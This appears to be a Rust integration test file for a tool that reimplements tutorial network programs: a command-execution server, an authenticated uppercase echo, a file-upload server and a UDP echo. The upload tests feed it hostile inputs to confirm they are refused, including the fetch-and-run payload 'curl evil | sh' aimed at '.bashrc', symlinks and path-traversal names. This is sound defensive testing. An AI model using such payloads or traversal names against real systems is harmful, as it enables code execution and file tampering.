//! End-to-end: `skiff classic` against the tutorial's own programs
//! (`tests/classic/*.py`, run with python3), in both directions, for all
//! four programs; 50 tutorial clients at once against each skiff server;
//! bad input; the loopback-only refusal. Every server uses a free port.

mod common;

use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, ExitStatus, Stdio};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::skiff_bin;

/// How long anything in these tests may take before it counts as hung.
const PATIENCE: Duration = Duration::from_secs(60);

fn script(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/classic")
        .join(name)
}

/// A running process whose output is collected as it comes.
struct Proc {
    child: Child,
    stdin: Option<ChildStdin>,
    out: Arc<Mutex<Vec<u8>>>,
    err: Arc<Mutex<Vec<u8>>>,
    readers: Vec<JoinHandle<()>>,
}

type Collected = (Arc<Mutex<Vec<u8>>>, JoinHandle<()>);

fn collect(mut from: impl Read + Send + 'static) -> Collected {
    let buf = Arc::new(Mutex::new(Vec::new()));
    let sink = buf.clone();
    let reader = std::thread::spawn(move || {
        let mut chunk = [0u8; 8192];
        while let Ok(n) = from.read(&mut chunk) {
            if n == 0 {
                break;
            }
            sink.lock().unwrap().extend_from_slice(&chunk[..n]);
        }
    });
    (buf, reader)
}

impl Proc {
    fn spawn(mut cmd: Command) -> Proc {
        let mut child = cmd
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .env("PYTHONIOENCODING", "utf-8")
            .env("RUST_LOG", "warn")
            .spawn()
            .expect("spawn");
        let stdin = child.stdin.take();
        let (out, out_reader) = collect(child.stdout.take().unwrap());
        let (err, err_reader) = collect(child.stderr.take().unwrap());
        Proc {
            child,
            stdin,
            out,
            err,
            readers: vec![out_reader, err_reader],
        }
    }

    fn python(name: &str, args: &[String]) -> Proc {
        let mut cmd = Command::new("python3");
        cmd.arg("-u").arg(script(name)).args(args);
        Proc::spawn(cmd)
    }

    fn skiff(args: &[&str]) -> Proc {
        let mut cmd = Command::new(skiff_bin());
        cmd.arg("classic").args(args);
        Proc::spawn(cmd)
    }

    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.out.lock().unwrap()).into_owned()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.err.lock().unwrap()).into_owned()
    }

    /// Waits until stdout contains `needle`.
    fn wait_for(&mut self, needle: &str) {
        let deadline = Instant::now() + PATIENCE;
        while !self.stdout().contains(needle) {
            if Instant::now() > deadline || matches!(self.child.try_wait(), Ok(Some(_))) {
                // One last look: the output may have landed just now.
                std::thread::sleep(Duration::from_millis(100));
                assert!(
                    self.stdout().contains(needle),
                    "never saw {needle:?}; stdout {:?}, stderr {:?}",
                    self.stdout(),
                    self.stderr()
                );
                return;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    fn send(&mut self, text: &str) {
        let stdin = self.stdin.as_mut().expect("stdin open");
        stdin.write_all(text.as_bytes()).unwrap();
        stdin.flush().unwrap();
    }

    /// Closes stdin and waits for the exit (killing it after PATIENCE).
    fn finish(mut self) -> (ExitStatus, String, String) {
        drop(self.stdin.take());
        let deadline = Instant::now() + PATIENCE;
        let status = loop {
            if let Some(s) = self.child.try_wait().unwrap() {
                break s;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                panic!(
                    "process hung; stdout {:?}, stderr {:?}",
                    self.stdout(),
                    self.stderr()
                );
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        // Let the reader threads drain the pipes to their end.
        for reader in std::mem::take(&mut self.readers) {
            while !reader.is_finished() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(10));
            }
        }
        (status, self.stdout(), self.stderr())
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs a skiff classic client to the end with `input` on stdin.
fn run_skiff(args: &[&str], input: &str) -> (ExitStatus, String, String) {
    let mut p = Proc::skiff(args);
    p.send(input);
    p.finish()
}

/// Starts `skiff classic PROGRAM --port 0 ARGS` and returns it with its port.
fn skiff_server(program: &str, args: &[&str]) -> (Proc, String) {
    let mut all = vec![program, "--port", "0"];
    all.extend_from_slice(args);
    let mut p = Proc::skiff(&all);
    p.wait_for("listening on ");
    let out = p.stdout();
    let url = out
        .lines()
        .find_map(|l| l.strip_prefix("listening on "))
        .unwrap()
        .to_string();
    let port = url.rsplit(':').next().unwrap().to_string();
    (p, port)
}

/// A port nobody uses right now.
fn free_port(udp: bool) -> u16 {
    if udp {
        UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port()
    } else {
        TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port()
    }
}

/// Whether a socket is bound (UDP) or listening (TCP) on `port`, from
/// /proc/net: probing by connecting would use up a sequential tutorial
/// server's only accept (and crash the upload server).
fn bound(port: u16, udp: bool) -> bool {
    let (file, state) = if udp {
        ("/proc/net/udp", "07")
    } else {
        ("/proc/net/tcp", "0A")
    };
    let table = std::fs::read_to_string(file).unwrap_or_default();
    let local = format!("0100007F:{port:04X}");
    table.lines().any(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        f.len() > 3 && f[1] == local && f[3] == state
    })
}

/// Starts a tutorial server on a free port, with `extra` arguments after it.
fn python_server(name: &str, udp: bool, extra: &[String]) -> (Proc, String) {
    for _ in 0..5 {
        let port = free_port(udp);
        let mut args = vec![port.to_string()];
        args.extend_from_slice(extra);
        let mut p = Proc::python(name, &args);
        let deadline = Instant::now() + PATIENCE;
        while Instant::now() < deadline {
            if bound(port, udp) {
                return (p, port.to_string());
            }
            if let Ok(Some(_)) = p.child.try_wait() {
                break; // lost the port to someone else: try another
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = p.child.kill();
    }
    panic!("{name} did not start");
}

/// Spawns `n` tutorial clients, has each send one line and waits until
/// every one of them has its answer while all are still connected, then
/// lets them all quit.
fn fifty_at_once(
    client: &str,
    port: &str,
    line: impl Fn(usize) -> String,
    answer: impl Fn(usize) -> String,
) {
    const N: usize = 50;
    let mut clients: Vec<Proc> = (0..N)
        .map(|_| Proc::python(client, &[port.to_string()]))
        .collect();
    for (i, c) in clients.iter_mut().enumerate() {
        c.send(&format!("{}\n", line(i)));
    }
    for (i, c) in clients.iter_mut().enumerate() {
        c.wait_for(&answer(i));
    }
    for c in clients.iter_mut() {
        c.send("quit\n");
    }
    for c in clients {
        let (status, out, err) = c.finish();
        assert!(status.success(), "stdout {out:?} stderr {err:?}");
    }
}

// ---------------------------------------------------------------- cmd

#[test]
fn cmd_tutorial_client_against_skiff_server() {
    let (_server, port) = skiff_server("cmd-server", &[]);
    let mut c = Proc::python("cmd_client.py", &[port]);
    c.send("echo hello\n   \necho out; echo err >&2\nls /no/such/dir\nprintf abc\nquit\n");
    let (status, out, err) = c.finish();
    assert!(status.success(), "{out} {err}");
    // <class 'int'> n, then the bytes decoded and printed.
    assert!(out.contains("<class 'int'> 6\nhello\n\n"), "{out}");
    // stderr wins when it is non-empty.
    assert!(out.contains("<class 'int'> 4\nerr\n\n"), "{out}");
    assert!(out.contains("No such file or directory"), "{out}");
    assert!(out.contains("<class 'int'> 3\nabc\n"), "{out}");
    assert!(!out.contains("out\n"), "{out}");
}

#[test]
fn cmd_skiff_client_against_tutorial_server() {
    let (_server, port) = python_server("cmd_server.py", false, &[]);
    let (status, out, err) = run_skiff(
        &["cmd-client", "--port", &port],
        "echo hello\n\nprintf 'no newline'\necho out; echo err >&2\nquit\n",
    );
    assert!(status.success(), "{err}");
    assert_eq!(out, ">>: hello\n>>: >>: no newline\n>>: err\n>>: ");

    // --encoding gbk decodes exactly as the tutorial's data.decode('gbk'):
    // every GBK byte pair, valid or not, through the tutorial's server.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("gbk.txt");
    let mut bytes = b"\xc4\xe3\xba\xc3 ".to_vec(); // 你好
    for lead in 0x81..=0xFEu8 {
        for trail in 0x40..=0xFEu8 {
            bytes.extend_from_slice(&[lead, trail]);
        }
    }
    bytes.extend_from_slice(b"\x80\xff end\n");
    std::fs::write(&file, &bytes).unwrap();
    let expected = Command::new("python3")
        .args([
            "-c",
            "import sys; sys.stdout.buffer.write(open(sys.argv[1],'rb').read().decode('gbk','replace').encode('utf-8'))",
        ])
        .arg(&file)
        .output()
        .unwrap();
    assert!(expected.status.success());
    let (status, out, err) = run_skiff(
        &["cmd-client", "--port", &port, "--encoding", "gbk"],
        &format!("cat {}\nquit\n", file.display()),
    );
    assert!(status.success(), "{err}");
    let expected = String::from_utf8(expected.stdout).unwrap();
    assert!(expected.starts_with("你好 "));
    assert_eq!(out, format!(">>: {expected}>>: "));
}

#[test]
fn cmd_fifty_tutorial_clients_at_once() {
    let (_server, port) = skiff_server("cmd-server", &[]);
    fifty_at_once(
        "cmd_client.py",
        &port,
        |i| format!("echo client-{i}-ok"),
        |i| format!("client-{i}-ok\n"),
    );
}

#[test]
fn cmd_server_is_loopback_only_unless_told() {
    for host in ["0.0.0.0", "::"] {
        let (status, out, err) = run_skiff(&["cmd-server", "--host", host, "--port", "0"], "");
        assert!(!status.success(), "{out}");
        assert!(err.contains("refusing to listen"), "{err}");
        assert!(err.contains("no authentication"), "{err}");
        assert!(err.contains("--unauthenticated-remote-ok"), "{err}");
        assert!(!out.contains("listening"), "{out}");
    }
    // Loopback names are fine.
    let (_ok, _) = skiff_server("cmd-server", &["--host", "localhost"]);
    // With the flag it listens, and warns; only loopback traffic is sent.
    let (mut p, port) = skiff_server(
        "cmd-server",
        &["--host", "0.0.0.0", "--unauthenticated-remote-ok"],
    );
    let (status, out, _) = run_skiff(&["cmd-client", "--port", &port], "echo reachable\nquit\n");
    assert!(status.success());
    assert!(out.contains("reachable"), "{out}");
    let _ = p.child.kill();
    assert!(p.stderr().contains("WARNING"), "{}", p.stderr());
}

/// Sends one command on a raw socket and reads the `struct.pack('i')` reply.
fn raw_command(conn: &mut TcpStream, cmd: &[u8]) -> Vec<u8> {
    conn.write_all(cmd).unwrap();
    let mut head = [0u8; 4];
    conn.read_exact(&mut head).unwrap();
    let n = i32::from_le_bytes(head);
    assert!(n >= 0);
    let mut body = vec![0u8; n as usize];
    conn.read_exact(&mut body).unwrap();
    body
}

fn raw_connect(port: &str) -> TcpStream {
    let c = TcpStream::connect(format!("127.0.0.1:{port}")).unwrap();
    c.set_read_timeout(Some(PATIENCE)).unwrap();
    c
}

#[test]
fn cmd_server_limits_and_bad_clients() {
    let (server, port) = skiff_server(
        "cmd-server",
        &[
            "--command-timeout",
            "5",
            "--max-output",
            "2000000",
            "--idle-timeout",
            "3",
        ],
    );
    let mut c = raw_connect(&port);
    // Larger than a pipe and than the in-memory spool: streamed, exact.
    let big = raw_command(&mut c, b"head -c 1048576 /dev/zero | tr '\\0' a");
    assert_eq!(big.len(), 1 << 20);
    assert!(big.iter().all(|&b| b == b'a'));
    // Too much output: killed, and the reply says why.
    let over = raw_command(&mut c, b"head -c 3000000 /dev/zero");
    let over = String::from_utf8_lossy(&over);
    assert!(over.contains("more than 2000000 bytes"), "{over}");
    // Too long: killed with its background jobs, and the reply says why.
    let started = Instant::now();
    let slow = raw_command(&mut c, b"sleep 100 & sleep 100");
    assert!(String::from_utf8_lossy(&slow).contains("still running after 5s"));
    assert!(started.elapsed() < Duration::from_secs(60));
    // Bytes that are not UTF-8 reach the shell untouched.
    let od = raw_command(&mut c, b"printf '\xff' | od -An -tx1");
    assert_eq!(String::from_utf8_lossy(&od).trim(), "ff");
    // A command that needs stdin gets end of input, not the socket.
    assert_eq!(raw_command(&mut c, b"cat; echo done"), b"done\n");

    // A client that leaves in the middle of a reply hurts nobody.
    let mut gone = raw_connect(&port);
    gone.write_all(b"head -c 1048576 /dev/zero").unwrap();
    drop(gone);
    // A silent client is dropped after the idle timeout.
    let mut silent = raw_connect(&port);
    let mut buf = [0u8; 1];
    let started = Instant::now();
    let r = silent.read(&mut buf);
    assert!(matches!(r, Ok(0) | Err(_)), "{r:?}");
    assert!(started.elapsed() < Duration::from_secs(30));
    // Still serving.
    let mut again = raw_connect(&port);
    assert_eq!(raw_command(&mut again, b"echo still here"), b"still here\n");
    assert!(!server.stderr().contains("panicked"), "{}", server.stderr());
}

// ---------------------------------------------------------------- upper

#[test]
fn upper_tutorial_client_against_skiff_server() {
    let (_server, port) = skiff_server("upper-server", &[]);
    let mut c = Proc::python("upper_client.py", &[port]);
    c.send("hello world\n\nmixed Case 123 é\nquit\n");
    let (status, out, err) = c.finish();
    assert!(status.success(), "{out} {err}");
    assert_eq!(out, ">>: HELLO WORLD\n>>: >>: MIXED CASE 123 é\n>>: ");
}

#[test]
fn upper_skiff_client_against_tutorial_server() {
    let (mut server, port) = python_server("upper_server.py", false, &[]);
    let (status, out, err) = run_skiff(
        &["upper-client", "--port", &port],
        "hello\nsticky packets\nquit\n",
    );
    assert!(status.success(), "{err}");
    assert_eq!(out, ">>: HELLO\n>>: STICKY PACKETS\n>>: ");
    // The wrong secret: the tutorial's server closes the link.
    let (status, _, err) = run_skiff(
        &["upper-client", "--port", &port, "--secret", "wrong"],
        "hello\nquit\n",
    );
    assert!(!status.success());
    assert!(err.contains("closed the connection"), "{err}");
    // The tutorial server prints after it answered: wait for its lines.
    server.wait_for("链接合法,开始通信");
    server.wait_for("该链接不合法,关闭");
}

#[test]
fn upper_fifty_tutorial_clients_at_once() {
    let (_server, port) = skiff_server("upper-server", &[]);
    fifty_at_once(
        "upper_client.py",
        &port,
        |i| format!("client-{i}-ok"),
        |i| format!("CLIENT-{i}-OK\n"),
    );
}

#[test]
fn upper_server_checks_secret_digest_and_time() {
    let (server, port) = skiff_server(
        "upper-server",
        &[
            "--digest",
            "sha256",
            "--secret",
            "s3cret",
            "--auth-timeout",
            "1",
        ],
    );
    let ok = [
        "upper-client",
        "--port",
        &port,
        "--digest",
        "sha256",
        "--secret",
        "s3cret",
    ];
    let (status, out, err) = run_skiff(&ok, "abc\nquit\n");
    assert!(status.success(), "{err}");
    assert_eq!(out, ">>: ABC\n>>: ");
    // Secret from the environment.
    let mut p = Command::new(skiff_bin());
    p.args([
        "classic",
        "upper-client",
        "--port",
        &port,
        "--digest",
        "sha256",
    ])
    .env("SKIFF_CLASSIC_SECRET", "s3cret");
    let mut p = Proc::spawn(p);
    p.send("env\nquit\n");
    let (status, out, _) = p.finish();
    assert!(status.success());
    assert_eq!(out, ">>: ENV\n>>: ");
    // Wrong digest, wrong secret: the link is closed.
    for bad in [
        vec!["--digest", "md5", "--secret", "s3cret"],
        vec!["--digest", "sha256", "--secret", "S3cret"],
    ] {
        let mut args = vec!["upper-client", "--port", &port];
        args.extend(bad);
        let (status, out, err) = run_skiff(&args, "abc\nquit\n");
        assert!(!status.success(), "{out}");
        assert!(err.contains("wrong secret or --digest"), "{err}");
    }
    // The answer is HMAC-SHA256(secret, challenge), computed independently.
    use hmac::{Hmac, Mac};
    let mut c = raw_connect(&port);
    let mut challenge = [0u8; 32];
    c.read_exact(&mut challenge).unwrap();
    let mut mac = <Hmac<sha2::Sha256> as Mac>::new_from_slice(b"s3cret").unwrap();
    mac.update(&challenge);
    c.write_all(&mac.finalize().into_bytes()).unwrap();
    c.write_all(b"raw").unwrap();
    let mut echo = [0u8; 3];
    c.read_exact(&mut echo).unwrap();
    assert_eq!(&echo, b"RAW");
    // A client that never answers is dropped after --auth-timeout.
    let mut silent = raw_connect(&port);
    silent.read_exact(&mut challenge).unwrap();
    let started = Instant::now();
    let mut buf = [0u8; 1];
    assert!(matches!(silent.read(&mut buf), Ok(0) | Err(_)));
    assert!(started.elapsed() < Duration::from_secs(30));
    // A short answer then a close is no crash either.
    let mut short = raw_connect(&port);
    short.read_exact(&mut challenge).unwrap();
    short.write_all(b"tiny").unwrap();
    drop(short);
    let (status, _, _) = run_skiff(&ok, "still\nquit\n");
    assert!(status.success());
    assert!(!server.stderr().contains("panicked"));
}

// ---------------------------------------------------------------- upload

#[test]
fn upload_tutorial_client_against_skiff_server() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let (_server, port) = skiff_server("upload-server", &["--root", root.to_str().unwrap()]);
    let src = dir.path().join("a/b/c");
    std::fs::create_dir_all(&src).unwrap();
    let file = src.join("a.txt");
    let data = common::random_bytes(300_000, 7);
    std::fs::write(&file, &data).unwrap();
    // The tutorial sends the full path as file_name; only the base name counts.
    let c = Proc::python(
        "upload_client.py",
        &[file.to_string_lossy().into_owned(), port],
    );
    let (status, _, err) = c.finish();
    assert!(status.success(), "{err}");
    let deadline = Instant::now() + PATIENCE;
    while !root.join("a.txt").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(std::fs::read(root.join("a.txt")).unwrap(), data);
    assert_eq!(common::names(&root), ["a.txt"]);
}

#[test]
fn upload_skiff_client_against_tutorial_server() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let (mut server, port) = python_server(
        "upload_server.py",
        false,
        &[root.to_string_lossy().into_owned()],
    );
    let one = dir.path().join("one.bin");
    let two = dir.path().join("二.txt");
    std::fs::write(&one, common::random_bytes(100_000, 3)).unwrap();
    std::fs::write(&two, b"").unwrap();
    let mut p = Command::new(skiff_bin());
    p.args(["classic", "upload-client", "--port", &port])
        .arg(&one)
        .arg(&two);
    let (status, out, err) = Proc::spawn(p).finish();
    assert!(status.success(), "{out} {err}");
    assert!(
        out.contains("sent") && out.contains("100000 bytes"),
        "{out}"
    );
    assert_eq!(
        std::fs::read(root.join("one.bin")).unwrap(),
        std::fs::read(&one).unwrap()
    );
    assert_eq!(std::fs::read(root.join("二.txt")).unwrap(), b"");
    // The tutorial server prints after it stored the file: wait for it.
    server.wait_for("stored one.bin 100000");
    let log = server.stdout();
    assert!(!log.contains("mismatch"), "{log}");
}

#[test]
fn upload_fifty_tutorial_clients_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let (_server, port) = skiff_server("upload-server", &["--root", root.to_str().unwrap()]);
    let files: Vec<(PathBuf, Vec<u8>)> = (0..50)
        .map(|i| {
            let f = dir.path().join(format!("f{i}.bin"));
            let data = common::random_bytes(20_000 + i * 1000, i as u64 + 11);
            std::fs::write(&f, &data).unwrap();
            (f, data)
        })
        .collect();
    let clients: Vec<Proc> = files
        .iter()
        .map(|(f, _)| {
            Proc::python(
                "upload_client.py",
                &[f.to_string_lossy().into_owned(), port.clone()],
            )
        })
        .collect();
    for c in clients {
        let (status, _, err) = c.finish();
        assert!(status.success(), "{err}");
    }
    // The clients leave as soon as they have sent; renames are atomic.
    let deadline = Instant::now() + PATIENCE;
    while !files
        .iter()
        .all(|(f, _)| root.join(f.file_name().unwrap()).exists())
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    // Then the temporary files are gone too.
    while common::names(&root).len() > 50 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    for (f, data) in &files {
        let stored = root.join(f.file_name().unwrap());
        assert_eq!(&std::fs::read(stored).unwrap(), data);
    }
    assert_eq!(common::names(&root).len(), 50, "{:?}", common::names(&root));
}

/// Sends raw bytes as an upload and says whether the server took it:
/// Ok after a clean close, the error kind after a reset.
fn raw_upload(port: &str, bytes: &[u8]) -> Result<(), io::ErrorKind> {
    let mut c = raw_connect(port);
    // The server may refuse before reading everything; the reset may then
    // show up as a failed write (and the read after it sees only the end).
    if let Err(e) = c.write_all(bytes) {
        assert!(
            matches!(
                e.kind(),
                io::ErrorKind::ConnectionReset | io::ErrorKind::BrokenPipe
            ),
            "{e}"
        );
        return Err(io::ErrorKind::ConnectionReset);
    }
    let _ = c.shutdown(Shutdown::Write);
    let mut buf = [0u8; 16];
    match c.read(&mut buf) {
        Ok(0) => Ok(()),
        Ok(_) => panic!("the server answered"),
        Err(e) => Err(e.kind()),
    }
}

fn upload_bytes(header_json: &str, data: &[u8]) -> Vec<u8> {
    let mut v = (header_json.len() as i32).to_le_bytes().to_vec();
    v.extend_from_slice(header_json.as_bytes());
    v.extend_from_slice(data);
    v
}

fn header(name: &str, size: i64, data: &[u8]) -> String {
    use md5::{Digest, Md5};
    format!(
        r#"{{"file_size": {size}, "file_name": "{name}", "md5": "{}"}}"#,
        hex::encode(Md5::digest(data))
    )
}

#[test]
fn upload_server_refuses_bad_uploads_and_leaves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let (server, port) = skiff_server(
        "upload-server",
        &["--root", root.to_str().unwrap(), "--idle-timeout", "2"],
    );
    let data = common::random_bytes(200_000, 5);
    let reset = Err(io::ErrorKind::ConnectionReset);

    // A header over 64 KiB, a negative header length, a header cut short.
    let mut huge = 65_537i32.to_le_bytes().to_vec();
    huge.extend(vec![b' '; 70_000]);
    assert_eq!(raw_upload(&port, &huge), reset);
    assert_eq!(raw_upload(&port, &(-5i32).to_le_bytes()), reset);
    // Not JSON, wrong fields, negative size, a name that is no file.
    assert_eq!(raw_upload(&port, &upload_bytes("not json", b"")), reset);
    assert_eq!(
        raw_upload(&port, &upload_bytes(r#"{"file_name": "x"}"#, b"")),
        reset
    );
    assert_eq!(
        raw_upload(&port, &upload_bytes(&header("neg.bin", -1, b""), b"")),
        reset
    );
    assert_eq!(
        raw_upload(&port, &upload_bytes(&header("/a/..", 3, b"abc"), b"abc")),
        reset
    );
    // Data that does not match its md5, after streaming all of it.
    let mut wrong = data.clone();
    wrong[100_000] ^= 1;
    assert_eq!(
        raw_upload(
            &port,
            &upload_bytes(&header("bad.bin", 200_000, &data), &wrong)
        ),
        reset
    );
    // A client that leaves in the middle of the data.
    assert_eq!(
        raw_upload(
            &port,
            &upload_bytes(&header("cut.bin", 200_000, &data), &data[..50_000])
        ),
        reset
    );
    // A client that stops sending in the middle: dropped at the idle timeout.
    let mut stalled = raw_connect(&port);
    stalled
        .write_all(&upload_bytes(
            &header("stall.bin", 200_000, &data),
            &data[..10],
        ))
        .unwrap();
    let mut buf = [0u8; 1];
    assert!(matches!(stalled.read(&mut buf), Ok(0) | Err(_)));
    assert!(
        common::names(&root).is_empty(),
        "{:?}",
        common::names(&root)
    );

    // A path in the name is cut to the base name: nothing escapes the root.
    assert_eq!(
        raw_upload(
            &port,
            &upload_bytes(&header("../../escape.bin", 200_000, &data), &data)
        ),
        Ok(())
    );
    assert!(!dir.path().join("escape.bin").exists());
    // Two files on one connection, as a longer-lived client might send.
    let mut two = upload_bytes(&header("x.bin", 3, b"xyz"), b"xyz");
    two.extend(upload_bytes(&header("C:\\\\tmp\\\\y.bin", 0, b""), b""));
    assert_eq!(raw_upload(&port, &two), Ok(()));
    let deadline = Instant::now() + PATIENCE;
    while common::names(&root).len() < 3 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(common::names(&root), ["escape.bin", "x.bin", "y.bin"]);
    assert_eq!(std::fs::read(root.join("escape.bin")).unwrap(), data);

    // The skiff client reports a refusal: here the root is gone.
    std::fs::remove_dir_all(&root).unwrap();
    let f = dir.path().join("late.bin");
    std::fs::write(&f, b"late").unwrap();
    let mut p = Command::new(skiff_bin());
    p.args(["classic", "upload-client", "--port", &port])
        .arg(&f);
    let (status, _, err) = Proc::spawn(p).finish();
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("refused"), "{err}");
    assert!(!server.stderr().contains("panicked"));
}

#[test]
fn upload_server_never_overwrites_unless_told() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let rc = root.join(".bashrc");
    std::fs::write(&rc, b"mine").unwrap();
    let outside = dir.path().join("outside.txt");
    std::fs::write(&outside, b"outside").unwrap();
    std::os::unix::fs::symlink(&outside, root.join("link")).unwrap();
    std::os::unix::fs::symlink(dir.path().join("nothing"), root.join("dangling")).unwrap();
    let root_arg = root.to_str().unwrap();
    let (server, port) = skiff_server("upload-server", &["--root", root_arg]);
    let evil = b"curl evil | sh".to_vec();
    let upload = |name: &str, data: &[u8]| {
        raw_upload(
            &port,
            &upload_bytes(&header(name, data.len() as i64, data), data),
        )
    };
    let reset = Err(io::ErrorKind::ConnectionReset);

    // An existing file, a symlink to a file outside, a dangling symlink:
    // all refused, none followed or changed.
    assert_eq!(upload(".bashrc", &evil), reset);
    assert_eq!(upload("/home/u/.bashrc", &evil), reset);
    assert_eq!(upload("link", &evil), reset);
    assert_eq!(upload("dangling", &evil), reset);
    assert_eq!(std::fs::read(&rc).unwrap(), b"mine");
    assert_eq!(std::fs::read(&outside).unwrap(), b"outside");
    assert!(!dir.path().join("nothing").exists());
    // A new name is stored; a second upload of it is refused.
    assert_eq!(upload("new.bin", b"first"), Ok(()));
    assert_eq!(upload("new.bin", b"second"), reset);
    assert_eq!(std::fs::read(root.join("new.bin")).unwrap(), b"first");
    // The skiff client reports the refusal.
    let mine = dir.path().join(".bashrc");
    std::fs::write(&mine, &evil).unwrap();
    let mut p = Command::new(skiff_bin());
    p.args(["classic", "upload-client", "--port", &port])
        .arg(&mine);
    let (status, _, err) = Proc::spawn(p).finish();
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("refused"), "{err}");
    assert_eq!(std::fs::read(&rc).unwrap(), b"mine");
    // No temporary file is left behind.
    assert_eq!(
        common::names(&root),
        [".bashrc", "dangling", "link", "new.bin"]
    );
    assert!(server.stderr().contains("exists"), "{}", server.stderr());
    drop(server);

    // With --overwrite the file is replaced, and a symlink is replaced
    // itself: its target outside the root is never written.
    let (_server, port) = skiff_server("upload-server", &["--root", root_arg, "--overwrite"]);
    let upload = |name: &str, data: &[u8]| {
        raw_upload(
            &port,
            &upload_bytes(&header(name, data.len() as i64, data), data),
        )
    };
    assert_eq!(upload(".bashrc", b"replaced"), Ok(()));
    assert_eq!(std::fs::read(&rc).unwrap(), b"replaced");
    assert_eq!(upload("link", b"not outside"), Ok(()));
    assert!(!std::fs::symlink_metadata(root.join("link"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(std::fs::read(&outside).unwrap(), b"outside");
}

#[test]
fn upload_server_is_loopback_only_unless_told() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_str().unwrap();
    for host in ["0.0.0.0", "::"] {
        let (status, out, err) = run_skiff(
            &[
                "upload-server",
                "--host",
                host,
                "--port",
                "0",
                "--root",
                root,
            ],
            "",
        );
        assert!(!status.success(), "{out}");
        assert!(err.contains("refusing to listen"), "{err}");
        assert!(err.contains("no authentication"), "{err}");
        assert!(err.contains("--unauthenticated-remote-ok"), "{err}");
        assert!(!out.contains("listening"), "{out}");
    }
    // With the flag it listens, and warns; only loopback traffic is sent.
    let (mut p, port) = skiff_server(
        "upload-server",
        &[
            "--host",
            "0.0.0.0",
            "--unauthenticated-remote-ok",
            "--root",
            root,
        ],
    );
    assert_eq!(
        raw_upload(&port, &upload_bytes(&header("a.txt", 2, b"ok"), b"ok")),
        Ok(())
    );
    assert_eq!(std::fs::read(dir.path().join("a.txt")).unwrap(), b"ok");
    let _ = p.child.kill();
    assert!(p.stderr().contains("WARNING"), "{}", p.stderr());
}

// ---------------------------------------------------------------- udp

#[test]
fn udp_tutorial_client_against_skiff_server() {
    let (_server, port) = skiff_server("udp-server", &[]);
    let mut c = Proc::python("udp_client.py", &[port]);
    c.send("hello udp\n\nquit\n");
    let (status, out, err) = c.finish();
    assert!(status.success(), "{err}");
    assert_eq!(out, ">>: HELLO UDP\n>>: >>: ");
}

#[test]
fn udp_skiff_client_against_tutorial_server() {
    let (_server, port) = python_server("udp_server.py", true, &[]);
    let (status, out, err) = run_skiff(&["udp-client", "--port", &port], "hello\nagain\nquit\n");
    assert!(status.success(), "{err}");
    assert_eq!(out, ">>: HELLO\n>>: AGAIN\n>>: ");
    // Nobody there: the client says so and exits 1, without hanging.
    let nobody = free_port(true).to_string();
    let (status, _, err) = run_skiff(
        &["udp-client", "--port", &nobody, "--timeout", "1"],
        "anyone?\nquit\n",
    );
    assert_eq!(status.code(), Some(1));
    assert!(
        err.contains("nothing listens") || err.contains("no answer"),
        "{err}"
    );
}

#[test]
fn udp_fifty_tutorial_clients_at_once() {
    let (_server, port) = skiff_server("udp-server", &[]);
    fifty_at_once(
        "udp_client.py",
        &port,
        |i| format!("client-{i}-ok"),
        |i| format!("CLIENT-{i}-OK\n"),
    );
}

#[test]
fn udp_server_echoes_empty_and_large_datagrams() {
    let (_server, port) = skiff_server("udp-server", &[]);
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    s.connect(format!("127.0.0.1:{port}")).unwrap();
    s.set_read_timeout(Some(PATIENCE)).unwrap();
    let mut buf = vec![0u8; 70_000];
    s.send(b"").unwrap();
    assert_eq!(s.recv(&mut buf).unwrap(), 0);
    let big: Vec<u8> = (0..60_000).map(|i| b"abcxyz"[i % 6]).collect();
    s.send(&big).unwrap();
    let n = s.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], big.to_ascii_uppercase().as_slice());
}

/// Waits a moment for an answer that must not come.
fn assert_unanswered(socket: &UdpSocket, why: &str) {
    socket
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let mut buf = [0u8; 64];
    if let Ok((n, from)) = socket.recv_from(&mut buf) {
        panic!(
            "{why}: answered {:?} from {from}",
            String::from_utf8_lossy(&buf[..n])
        );
    }
}

#[test]
fn udp_server_does_not_answer_sources_that_would_loop() {
